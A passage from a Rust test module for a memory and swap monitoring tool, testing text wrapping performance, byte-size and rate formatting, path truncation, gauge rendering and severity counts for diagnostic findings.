        // machine does not count, and the fastest of nine alternating runs counts.
        let cpu = || {
            let t = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
            std::time::Duration::new(t.tv_sec as u64, t.tv_nsec as u32)
        };
        for word in ["x", "word "] {
            let small = word.repeat((64 << 10) / word.len());
            let large = word.repeat((512 << 10) / word.len());
            let time = |text: &str| {
                let t = cpu();
                assert!(wrap(text, 80, 2, 4).len() > text.len() / 80);
                cpu().saturating_sub(t)
            };
            let (mut t_small, mut t_large) = (time(&small), time(&large));
            for _ in 0..8 {
                t_small = t_small.min(time(&small));
                t_large = t_large.min(time(&large));
            }
            let ratio = t_large.as_secs_f64() / t_small.as_secs_f64().max(1e-6);
            assert!(
                ratio < 32.0,
                "{word:?}: 64 KiB in {t_small:?}, 512 KiB in {t_large:?} (x{ratio:.1})"
            );
        }
    }

    #[test]
    fn cells_sum_to_width_and_show_small_values() {
        let c = proportional_cells(&[1000, 1, 0, 500], 30);
        assert_eq!(c.iter().sum::<usize>(), 30);
        assert_eq!(c[1], 1);
        assert_eq!(c[2], 0);
    }
    #[test]
    fn short_forms() {
        assert_eq!(bytes_short(0), "0");
        assert_eq!(bytes_short(1023), "1023");
        assert_eq!(bytes_short(1024), "1K");
        assert_eq!(bytes_short(522_948_608), "498.7M");
        assert_eq!(bytes_short(1 << 30), "1G");
        assert_eq!(bytes_short(150 << 20), "150M");
        // Said together, the sizes share their precision.
        assert_eq!(
            bytes_short_alike([Some(686_400_000), Some(1 << 30)]),
            ["654.6M", "1.0G"]
        );
        assert_eq!(
            bytes_short_alike([Some(512 << 20), Some(1 << 30)]),
            ["512M", "1G"]
        );
        assert_eq!(
            bytes_short_alike([None, Some(3 << 29), Some(100)]),
            [MISSING, "1.5G", "100"]
        );
        assert_eq!(rate_short(false, Some(1.0)), PENDING);
        assert_eq!(rate_short(true, None), MISSING);
        assert_eq!(rate_short(true, Some(2048.0)), "2K/s");
        assert_eq!(interval(std::time::Duration::from_millis(100)), "100ms");
        assert_eq!(interval(std::time::Duration::from_secs(1)), "1s");
        assert_eq!(interval(std::time::Duration::from_millis(2500)), "2.5s");
        assert_eq!(span(std::time::Duration::from_secs(600)), "10m");
        assert_eq!(span(std::time::Duration::from_secs(45)), "45s");
        assert_eq!(span(std::time::Duration::from_secs(5400)), "1h30m");
        assert_eq!(span(std::time::Duration::from_secs(86_400)), "1d");
    }

    #[test]
    fn tight_columns() {
        assert_eq!(iops(false, Some(1.0)), PENDING);
        assert_eq!(iops(true, None), MISSING);
        assert_eq!(iops(true, Some(12.4)), "12");
        assert_eq!(iops(true, Some(3_456.0)), "3.5k");
        assert_eq!(iops(true, Some(12_345.0)), "12k");
        assert_eq!(percent_rate(false, Some(1.0)), PENDING);
        assert_eq!(percent_rate(true, Some(12.25)), "12.2%");
        assert_eq!(limit(Some(0)), "none");
        assert_eq!(limit(Some(1 << 30)), "1.0 GiB");
        assert_eq!(limit(None), MISSING);
        assert_eq!(zswap_max(None, true), "max");
        assert_eq!(zswap_max(None, false), MISSING);
        assert_eq!(zswap_max(Some(512 << 20), true), "512M");
        assert_eq!(yes_no(Some(false)), "no");
        assert_eq!(pages(Some(1)), "1 page");
        assert_eq!(pages(Some(19_661)), "19661 pages");
    }

    #[test]
    fn fit_keeps_both_ends() {
        assert_eq!(
            fit("/very/long/path/to/swapfile", 12, false),
            "/very…apfile"
        );
        assert_eq!(fit("/very/long/path/to/swapfile", 12, true), "/very~apfile");
        assert_eq!(fit("short", 12, false), "short");
        assert_eq!(fit("abcdef", 2, false), "ab");
    }

    #[test]
    fn gauge_cells_keep_the_mark_inside() {
        use GaugeCell::*;
        assert_eq!(
            gauge(Some(50.0), Some(75), 4),
            [Filled, Filled, Empty, Mark]
        );
        // A 100% threshold still shows, on the last cell.
        assert_eq!(gauge(None, Some(100), 3), [Empty, Empty, Mark]);
        assert_eq!(gauge(Some(f64::NAN), None, 2), [Empty, Empty]);
    }

    #[test]
    fn severity_words_count_most_severe_first() {
        let finding = |severity| Finding {
            id: "x".into(),
            severity,
            summary: String::new(),
            evidence: Vec::new(),
            fix: String::new(),
            why: String::new(),
        };
        let fs = [
            finding(Severity::Info),
            finding(Severity::Crit),
            finding(Severity::Info),
        ];
        assert_eq!(
            severity_counts(&fs),
            [
                (Severity::Crit, "1 crit".to_string()),
                (Severity::Info, "2 info".to_string())
            ]
        );
        assert_eq!(severity_tag(Severity::Warn), "WARN");
    }

    #[test]
    fn age_notes() {
        assert_eq!(age_note(Some(0)), None);
        assert_eq!(age_note(Some(2500)).as_deref(), Some("read 2.5 s ago"));
    }
}
